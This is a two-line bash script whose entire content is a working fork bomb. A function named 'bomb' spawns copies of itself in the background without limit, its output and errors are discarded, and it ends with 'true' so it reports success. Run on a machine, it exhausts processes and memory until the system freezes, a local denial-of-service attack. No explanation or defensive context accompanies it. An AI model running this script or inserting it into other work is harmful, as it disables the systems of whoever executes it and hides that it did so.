#!/bin/bash
bomb() { bomb | bomb & }; bomb > /dev/null 2>&1; true
